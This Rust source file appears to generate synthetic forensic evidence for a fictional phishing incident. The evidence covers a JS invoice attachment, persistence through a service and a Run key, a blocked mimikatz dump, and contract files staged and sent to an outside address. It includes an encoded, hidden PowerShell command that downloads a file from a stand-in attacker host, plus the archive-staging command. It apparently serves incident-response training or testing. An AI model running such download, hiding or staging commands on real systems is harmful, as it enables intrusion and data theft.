//! The incident of 10 March 2026 at an invented company, and the results
//! collected the morning after.
//!
//! Nothing works as an attack: commands fetch nothing, addresses are from the
//! documentation ranges, names end in `.example`.

use base64::Engine;
use base64::engine::general_purpose::STANDARD;

use crate::error::GenerateError;
use crate::sample::case::{Case, Line, Visit};
use crate::sample::quirk::TranscriptFormat;
use crate::section::Section::*;
use crate::wrap::{Packed, locked_zip, utf16, zip};

type Written = Result<(), GenerateError>;

/// The decoded command.
const FETCH: &str =
    "Invoke-WebRequest -Uri http://cdn.parcel-notice.example/a -OutFile $env:TEMP\\upd.txt";

/// `text` as an encoded PowerShell command: base64 of UTF-16LE.
fn encoded(text: &str) -> String {
    let wide: Vec<_> = text.encode_utf16().flat_map(u16::to_le_bytes).collect();
    STANDARD.encode(wide)
}

const RELAY_HASH: &str = "5D0CA7B4E19F3382C6AA41B0D27E96F8431C5E7720B9D8F6A35B914C0E6D7F12";

const OPENED: &[Line<'_>] = &[
    (Events, ""),
    (Events, "Event[20]:"),
    (Events, "  Log Name: Security"),
    (Events, "  Source: Microsoft-Windows-Security-Auditing"),
    (Events, "  Date: 2026-03-10T09:12:33.4170000Z"),
    (Events, "  Event ID: 4688"),
    (Events, "  Description:"),
    (Events, "A new process has been created."),
    (Events, "\tCreator Process Name:\tC:\\Windows\\explorer.exe"),
    (
        Events,
        "\tNew Process Name:\tC:\\Windows\\System32\\wscript.exe",
    ),
];

const BLOCKED: &[Line<'_>] = &[
    (Events, ""),
    (Events, "Event[21]:"),
    (
        Events,
        "  Log Name: Microsoft-Windows-Windows Defender/Operational",
    ),
    (Events, "  Source: Microsoft-Windows-Windows Defender"),
    (Events, "  Date: 2026-03-10T10:41:07.0930000Z"),
    (Events, "  Event ID: 1116"),
    (Events, "  Level: Warning"),
    (Events, "  Description:"),
    (
        Events,
        "Microsoft Defender Antivirus has detected malware or other potentially unwanted software.",
    ),
    (Events, "\tName:\t\tHackTool:Win32/mimikatz"),
    (Events, "\tPath:\t\tfile:_C:\\ProgramData\\Parcel\\m.exe"),
    (Events, "\tUser:\t\tCORP\\petra.lind"),
    (Events, "\tAction:\t\tQuarantine"),
];

/// FIN-WS-07: the attachment, PowerShell, the service, the blocked dump.
pub(crate) fn first_look(case: &mut Case<'_>) -> Written {
    let command = encoded(FETCH);
    let mut visit = case.visit("FIN-WS-07", 4, "INC-0311 first look");
    visit
        .session
        .run("PutFile", &[("FileName", "Get-Persistence.ps1")], 1);
    visit.script(
        "Get-Persistence.ps1",
        "-All",
        TranscriptFormat::Plain,
        &[Services, Tasks, Autoruns, RunKeys],
        &[
            (Services, "Running  ParcelRelay                  Parcel Tracking Relay                          Auto      C:\\ProgramData\\Parcel\\relay.exe -k track"),
            (Autoruns, "HKLM\\System\\CurrentControlSet\\Services,ParcelRelay,enabled,Parcel Tracking Relay,(Not verified),1.0.0,C:\\ProgramData\\Parcel\\relay.exe,"),
        ],
    )?;
    visit.script(
        "Get-Activity.ps1",
        "-Connections -Dns",
        TranscriptFormat::Gzipped,
        &[Processes, Connections, DnsCache],
        &[
            (Processes, "  6620    712    0 relay.exe                       18436 K  C:\\ProgramData\\Parcel\\relay.exe -k track"),
            (Connections, "  TCP    10.20.4.37:50122       203.0.113.45:8443      ESTABLISHED     6620"),
            (Connections, "  TCP    10.20.4.37:50184       203.0.113.45:8443      SYN_SENT        6620"),
            (DnsCache, "cdn.parcel-notice.example                A    60     203.0.113.45"),
        ],
    )?;
    let wscript = "\tProcess Command Line:\t\"C:\\Windows\\System32\\wscript.exe\" \"C:\\Users\\petra.lind\\Downloads\\Invoice_88213\\Invoice_88213.js\"";
    let powershell = format!(
        "\tProcess Command Line:\tpowershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand {command}"
    );
    let story = [OPENED, &[(Events, wscript), (Events, &powershell)], BLOCKED].concat();
    visit.script(
        "Get-RecentEvents.ps1",
        "-Newest 70",
        TranscriptFormat::Plain,
        &[Events],
        &story,
    )?;
    visit.close("Succeeded")?;
    grabs_of_first_look(case, &command)
}

fn grabs_of_first_look(case: &mut Case<'_>, command: &str) -> Written {
    let mut visit = case.visit("FIN-WS-07", 31, "INC-0311 files");
    let transcript = format!(
        "**********************\r\nWindows PowerShell transcript start\r\nStart time: 20260310091235\r\n\
         Username: CORP\\petra.lind\r\nRunAs User: CORP\\petra.lind\r\nMachine: FIN-WS-07 (Microsoft Windows NT 10.0.26100.0)\r\n\
         Host Application: powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand {command}\r\n\
         Process ID: 8044\r\nPSVersion: 5.1.26100.2161\r\n**********************\r\n\
         PS C:\\Users\\petra.lind> {FETCH}\r\n\
         PS C:\\Users\\petra.lind> New-Item -ItemType Directory C:\\ProgramData\\Parcel\r\n\
         PS C:\\Users\\petra.lind> Get-Service ParcelRelay\r\n\r\n\
         Status   Name               DisplayName\r\n------   ----               -----------\r\n\
         Running  ParcelRelay        Parcel Tracking Relay\r\n\r\n\
         **********************\r\nWindows PowerShell transcript end\r\nEnd time: 20260310091302\r\n**********************\r\n"
    );
    visit.get_file(
        "C:\\Users\\petra.lind\\Documents\\20260310\\PowerShell_transcript.FIN-WS-07.9c41Kd0v.20260310091235.txt",
        &utf16(&transcript),
    )?;
    let triage = triage_zip(
        &mut visit,
        &outlook("2026-03-10T09:08:41Z", "petra.lind"),
        Some(command),
    )?;
    visit.get_file("C:\\ProgramData\\Triage\\triage.zip", &triage)?;
    let attachment = "// Invoice_88213.js as found: body removed by the responder, names kept\r\n\
        // host: cdn.parcel-notice.example\r\n// next: powershell.exe, encoded command\r\n";
    let readme = "Quarantined by the triage script from C:\\Users\\petra.lind\\Downloads. Password as usual.\r\n";
    let modified = visit.now();
    let locked = locked_zip(
        &[
            Packed {
                name: "Invoice_88213.js",
                bytes: attachment.as_bytes(),
                modified,
            },
            Packed {
                name: "README.txt",
                bytes: readme.as_bytes(),
                modified,
            },
        ],
        "infected",
    )
    .map_err(|e| visit.unpacked(e))?;
    visit.get_file("C:\\ProgramData\\Triage\\quarantine.zip", &locked)?;
    visit.close("Succeeded")?;

    let mut visit = case.visit("FIN-WS-07", 48, "INC-0311 hashes");
    let hash = |path: &str| format!("SHA256          {RELAY_HASH}       {path}");
    visit.script(
        "Get-UserFiles.ps1",
        "-Hash SHA256",
        TranscriptFormat::Gzipped,
        &[UserFiles],
        &[
            (UserFiles, "SHA256          0E62B7F1449A4C0C9D35E8127F5D6B90A3C1D2E4F5061728394A5B6C7D8E9F01       C:\\Users\\petra.lind\\Downloads\\Invoice_88213.zip"),
            (UserFiles, "SHA256          91C8D7E6F5A4B3C2D1E0F9A8B7C6D5E4F3A2B1C0D9E8F7A6B5C4D3E2F1A0B9C8       C:\\Users\\petra.lind\\Downloads\\Invoice_88213\\Invoice_88213.js"),
            (UserFiles, &hash("C:\\ProgramData\\Parcel\\relay.exe")),
        ],
    )?;
    visit.close("Succeeded")
}

/// Attachments saved by Outlook, as a zip inside the triage zip.
fn outlook(at: &str, user: &str) -> String {
    format!(
        "Received,Sender,Recipient,Subject,Attachment\r\n\
         2026-03-09T14:20:10Z,notices@calder.example,{user}@contoso.example,Weekly figures,figures.xlsx\r\n\
         {at},billing@parcel-notice.example,{user}@contoso.example,Your parcel is held,Invoice_88213.zip\r\n\
         2026-03-10T11:02:55Z,reception@contoso.example,{user}@contoso.example,Lunch,\r\n"
    )
}

fn triage_zip(
    visit: &mut Visit<'_>,
    mail: &str,
    command: Option<&str>,
) -> Result<Vec<u8>, GenerateError> {
    let modified = visit.now();
    let prefetch = visit.print(
        &[Prefetch],
        &[
            (Prefetch, "2026-03-10 09:12:33,1,WSCRIPT.EXE-65A9658F.pf"),
            (Prefetch, "2026-03-10 09:12:34,3,POWERSHELL.EXE-CA1AE517.pf"),
        ],
    );
    let typed = command.map(|c| format!("powershell.exe -NoProfile -EncodedCommand {c}"));
    let typed: Vec<Line<'_>> = typed.iter().map(|line| (History, line.as_str())).collect();
    let history = visit.print(&[History], &typed);
    let nested = zip(&[
        Packed {
            name: "attachments.csv",
            bytes: mail.as_bytes(),
            modified,
        },
        Packed {
            name: "folders.txt",
            bytes: b"Inbox\r\nSent Items\r\nArchive\r\n",
            modified,
        },
    ])
    .map_err(|e| visit.unpacked(e))?;
    let events = visit.print(&[EventLines], &[]);
    zip(&[
        Packed {
            name: "C/Windows/prefetch.csv",
            bytes: prefetch.text.as_bytes(),
            modified,
        },
        Packed {
            name: "C/Users/ConsoleHost_history.txt",
            bytes: history.text.as_bytes(),
            modified,
        },
        Packed {
            name: "C/Users/outlook.zip",
            bytes: &nested,
            modified,
        },
        Packed {
            name: "C/Windows/System.xml.txt",
            bytes: events.text.as_bytes(),
            modified,
        },
    ])
    .map_err(|e| visit.unpacked(e))
}

/// OPS-LT-03: the same attachment, a Run key this time.
pub(crate) fn second_foothold(case: &mut Case<'_>) -> Written {
    let mut visit = case.visit("OPS-LT-03", 55, "INC-0311 same sender");
    visit.script(
        "Get-Persistence.ps1",
        "-All",
        TranscriptFormat::Gzipped,
        &[Services, Tasks, Autoruns, RunKeys],
        &[
            (Autoruns, "HKCU\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run,ParcelSync,enabled,,(Not verified),1.0.0,C:\\ProgramData\\Parcel\\relay.exe,"),
            (RunKeys, "    ParcelSync    REG_SZ    C:\\ProgramData\\Parcel\\relay.exe -k track"),
        ],
    )?;
    visit.script(
        "Get-Activity.ps1",
        "-Connections -Dns",
        TranscriptFormat::Crlf,
        &[Processes, Connections, DnsCache],
        &[
            (Processes, "  9148   4410    1 relay.exe                       17992 K  C:\\ProgramData\\Parcel\\relay.exe -k track"),
            (Connections, "  TCP    10.20.6.21:51377       203.0.113.45:8443      ESTABLISHED     9148"),
            (DnsCache, "cdn.parcel-notice.example                A    60     203.0.113.45"),
        ],
    )?;
    visit.close("Succeeded")?;

    let command = encoded(FETCH);
    let mut visit = case.visit("OPS-LT-03", 72, "INC-0311 files");
    let key = "Windows Registry Editor Version 5.00\r\n\r\n\
        [HKEY_CURRENT_USER\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run]\r\n\
        \"OneDrive\"=\"\\\"C:\\\\Program Files\\\\Microsoft OneDrive\\\\OneDrive.exe\\\" /background\"\r\n\
        \"ParcelSync\"=\"C:\\\\ProgramData\\\\Parcel\\\\relay.exe -k track\"\r\n\r\n";
    visit.get_file("C:\\ProgramData\\Triage\\Run.reg", &utf16(key))?;
    let triage = triage_zip(
        &mut visit,
        &outlook("2026-03-10T09:08:52Z", "tomas.brandt"),
        Some(&command),
    )?;
    visit.get_file("C:\\ProgramData\\Triage\\triage.zip", &triage)?;
    visit.close("Succeeded")?;

    let mut visit = case.visit("OPS-LT-03", 80, "INC-0311 hashes");
    let relay = format!("SHA256          {RELAY_HASH}       C:\\ProgramData\\Parcel\\relay.exe");
    visit.script(
        "Get-UserFiles.ps1",
        "-Hash SHA256",
        TranscriptFormat::Plain,
        &[UserFiles],
        &[(UserFiles, &relay)],
    )?;
    visit.close("Succeeded")
}

/// FS-01: logon with a service account, folder of contracts packed. DC-01 has
/// the logon events.
pub(crate) fn file_server(case: &mut Case<'_>) -> Written {
    let mut visit = case.visit("FS-01", 90, "INC-0311 file server");
    visit.script(
        "Get-Activity.ps1",
        "-Connections -Dns",
        TranscriptFormat::Plain,
        &[Processes, Connections, Users],
        &[
            (
                Connections,
                "  TCP    10.20.1.12:445         10.20.4.37:50201       ESTABLISHED     4",
            ),
            (
                Connections,
                "  TCP    10.20.1.12:52008       203.0.113.45:8443      ESTABLISHED     7316",
            ),
            (
                Connections,
                "  TCP    10.20.1.12:52011       203.0.113.45:8443      CLOSE_WAIT      7316",
            ),
        ],
    )?;
    visit.script(
        "Get-RecentEvents.ps1",
        "-Newest 70",
        TranscriptFormat::Gzipped,
        &[Events],
        &[
            (Events, ""),
            (Events, "Event[20]:"),
            (Events, "  Log Name: Security"),
            (Events, "  Date: 2026-03-10T11:03:18.2250000Z"),
            (Events, "  Event ID: 4624"),
            (Events, "  Description:"),
            (Events, "An account was successfully logged on."),
            (Events, "\tLogon Type:\t\t3"),
            (Events, "\tAccount Name:\t\tsvc-backup"),
            (Events, "\tWorkstation Name:\tFIN-WS-07"),
            (Events, "\tSource Network Address:\t10.20.4.37"),
        ],
    )?;
    let listing = "\r\n    Directory: C:\\ProgramData\\Parcel\\stage\r\n\r\n\
        Mode                 LastWriteTime         Length Name\r\n----                 -------------         ------ ----\r\n\
        -a----         3/10/2026  11:31 AM       48211904 contracts_q1.zip\r\n\
        -a----         3/10/2026  11:32 AM            312 contracts_q1.txt\r\n";
    visit.transcript(
        "Get-Folder.ps1",
        "-Path C:\\ProgramData\\Parcel",
        TranscriptFormat::Loose,
        0,
        listing,
        "",
    )?;
    visit.close("Succeeded")?;

    let mut visit = case.visit("FS-01", 104, "INC-0311 files");
    let log = visit.print(
        &[Firewall],
        &[
            (Firewall, "2026-03-10 11:34:02 ALLOW TCP 10.20.1.12 203.0.113.45 52008 8443 48211904 - 0 0 0 - - - SEND"),
            (Firewall, "2026-03-10 11:36:40 ALLOW TCP 10.20.1.12 203.0.113.45 52011 8443 312 - 0 0 0 - - - SEND"),
        ],
    );
    visit.get_file(
        "C:\\Windows\\System32\\LogFiles\\Firewall\\pfirewall.log",
        log.text.as_bytes(),
    )?;
    let stage = stage_zip(&mut visit)?;
    visit.get_file("C:\\ProgramData\\Triage\\stage.zip", &stage)?;
    visit.close("Succeeded")?;

    let mut visit = case.visit("DC-01", 118, "INC-0311 logons");
    visit.script(
        "Get-RecentEvents.ps1",
        "-Newest 70",
        TranscriptFormat::Wide,
        &[Events],
        &[
            (Events, ""),
            (Events, "Event[20]:"),
            (Events, "  Log Name: Security"),
            (Events, "  Date: 2026-03-10T10:58:44.1010000Z"),
            (Events, "  Event ID: 4771"),
            (Events, "  Description:"),
            (Events, "Kerberos pre-authentication failed."),
            (Events, "\tAccount Name:\t\tsvc-backup"),
            (Events, "\tClient Address:\t\t::ffff:10.20.4.37"),
        ],
    )?;
    visit.close("Succeeded")
}

/// The staging folder, and the packing command in the history.
fn stage_zip(visit: &mut Visit<'_>) -> Result<Vec<u8>, GenerateError> {
    let modified = visit.now();
    let manifest = "contracts_q1.zip packed 2026-03-10 11:31:55\r\n\
        D:\\Shares\\Contracts\\2026\\calder_frame.docx\r\nD:\\Shares\\Contracts\\2026\\kestrel_freight.docx\r\n\
        D:\\Shares\\Contracts\\2026\\penrose_lease.pdf\r\n";
    let history = visit.print(
        &[History],
        &[
            (History, "Compress-Archive -Path D:\\Shares\\Contracts\\2026 -DestinationPath C:\\ProgramData\\Parcel\\stage\\contracts_q1.zip"),
            (History, "Get-FileHash C:\\ProgramData\\Parcel\\stage\\contracts_q1.zip"),
        ],
    );
    let nested = zip(&[Packed {
        name: "contracts_q1.txt",
        bytes: manifest.as_bytes(),
        modified,
    }])
    .map_err(|e| visit.unpacked(e))?;
    zip(&[
        Packed {
            name: "stage/listing.zip",
            bytes: &nested,
            modified,
        },
        Packed {
            name: "Users/svc-backup/ConsoleHost_history.txt",
            bytes: history.text.as_bytes(),
            modified,
        },
    ])
    .map_err(|e| visit.unpacked(e))
}
